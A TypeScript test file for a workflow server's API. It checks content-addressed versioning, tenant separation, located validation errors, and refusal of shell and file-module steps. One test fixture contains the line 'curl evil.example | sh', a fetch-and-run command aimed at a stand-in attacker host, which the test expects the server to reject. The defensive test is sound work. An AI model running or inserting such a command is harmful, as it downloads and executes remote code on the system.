// PUT /api/workflows/{id} and GET /api/workflows/{id}/versions over real HTTP: definitions sent as
// YAML or JSON are validated (all problems, located), stored per tenant under a content-addressed
// version, and refused when they would run code on the server unless --allow-api-shell.
import assert from "node:assert/strict";
import { test } from "node:test";
import { z } from "zod";
import { defineAction } from "../../src/index.js";
import { assertErrorShape, startServer } from "./helpers.js";

const greet = defineAction({
  name: "greet",
  version: 1,
  params: z.strictObject({ name: z.string() }),
  handler: ({ name }) => `Hello, ${name}!`,
});

const s = await startServer({ workflows: [], cairn: { actions: [greet] } });
const open = await startServer({ workflows: [], app: { allowApiShell: true } });

const YAML = `id: etl
steps:
  - id: hello
    uses: greet
    with: { name: "\${{ input.name }}" }
  - id: pause
    sleep: 1s
`;

function put(
  server: typeof s,
  id: string,
  body: string,
  type = "application/yaml",
  token = server.tokens.acme,
) {
  return server.api(`/api/workflows/${id}`, {
    token,
    method: "PUT",
    raw: body,
    headers: { "content-type": type },
  });
}

test("a YAML definition is stored under a content-addressed version; the same definition as JSON is unchanged", async () => {
  const first = await put(s, "etl", YAML);
  assert.equal(first.status, 201, first.text);
  assert.equal(first.body.id, "etl");
  assert.match(first.body.version, /^[0-9a-f]{16}$/);
  assert.equal(first.headers.get("location"), "/api/workflows/etl/versions");

  const again = await put(s, "etl", `# the same, reformatted\n${YAML.replace("{ name:", "{ name :")}`);
  assert.equal(again.status, 200, again.text);
  assert.equal(again.body.version, first.body.version);
  const asJson = JSON.stringify({
    steps: [
      { id: "hello", uses: "greet", with: { name: `\${{ input.name }}` } },
      { id: "pause", sleep: "1s" },
    ],
    id: "etl",
  });
  const json = await put(s, "etl", asJson, "application/json");
  assert.equal(json.status, 200, json.text);
  assert.equal(json.body.version, first.body.version, "JSON with the same content is the same version");

  const changed = await put(s, "etl", YAML.replace("1s", "2s"));
  assert.equal(changed.status, 201);
  assert.notEqual(changed.body.version, first.body.version);
  const versions = await s.api("/api/workflows/etl/versions", { token: s.tokens.acme });
  assert.equal(versions.status, 200);
  assert.deepEqual(
    versions.body.versions.map((v: { version: string }) => v.version),
    [changed.body.version, first.body.version],
  );
});

test("another tenant sees none of them, and its own store is separate", async () => {
  const theirs = await s.api("/api/workflows/etl/versions", { token: s.tokens.globex });
  assert.equal(theirs.status, 404);
  assertErrorShape(theirs, 404, "NOT_FOUND");
  const stored = await put(s, "etl", YAML, "application/yaml", s.tokens.globex);
  assert.equal(stored.status, 201, "new for this tenant, though acme has the same version");
  const reader = await put(s, "etl", YAML, "application/yaml", s.tokens.acmeReader);
  assert.equal(reader.status, 403);
});

test("every problem at once, located in the body; 415 for another content type; 400 for broken JSON", async () => {
  const bad = await put(
    s,
    "broken",
    `id: broken
steps:
  - id: a
    uses: greet
    with: { name: 42 }
  - id: b
    uses: no.such
    needs: [ghost]
`,
  );
  assert.equal(bad.status, 422, bad.text);
  assertErrorShape(bad, 422, "INVALID_DEFINITION");
  assert.deepEqual(bad.body.error.details.problems, [
    'body.yaml:5:19: step "a": with.name: Invalid input: expected string, received number',
    'body.yaml:7:11: step "b": unknown action "no.such" (registered actions: file.read, file.write, greet, http.request)',
    'body.yaml:6:5: step "b": needs unknown step "ghost"',
  ]);
  const otherId = await put(s, "etl", YAML.replace("id: etl", "id: other"));
  assert.equal(otherId.status, 422);
  assert.match(otherId.body.error.message, /body\.yaml:1:5: the workflow's id "other" is not "etl"/);
  const text = await put(s, "etl", YAML, "text/plain");
  assert.equal(text.status, 415);
  assertErrorShape(text, 415, "UNSUPPORTED_MEDIA_TYPE");
  const broken = await put(s, "etl", '{"id": "etl", ', "application/json");
  assert.equal(broken.status, 400);
  assert.equal((await s.api("/api/workflows/broken/versions", { token: s.tokens.acme })).status, 404);
});

test("a definition sent over the API is data: run: and uses: of a file are refused, naming the step", async () => {
  const code = `id: shell
steps:
  - id: innocent
    uses: greet
    with: { name: x }
  - id: shell
    run: curl evil.example | sh
  - id: module
    uses: ./steps.mjs#fn
`;
  const refused = await put(s, "shell", code);
  assert.equal(refused.status, 422, refused.text);
  assert.deepEqual(refused.body.error.details.problems, [
    'body.yaml:7:10: step "shell": a shell command (run:) is refused in a workflow stored as data: use registered actions (opt-in: serve --allow-api-shell, workflows push --allow-shell)',
    'body.yaml:9:11: step "module": a function from a file (uses: a path) is refused in a workflow stored as data: use registered actions (opt-in: serve --allow-api-shell, workflows push --allow-shell)',
  ]);
  assert.equal((await s.api("/api/workflows/shell/versions", { token: s.tokens.acme })).status, 404);

  // The opt-in: the same shell step is stored by a server started with --allow-api-shell.
  const allowed = await put(open, "shell", "id: shell\nsteps:\n  - id: shell\n    run: echo hi\n");
  assert.equal(allowed.status, 201, allowed.text);
});
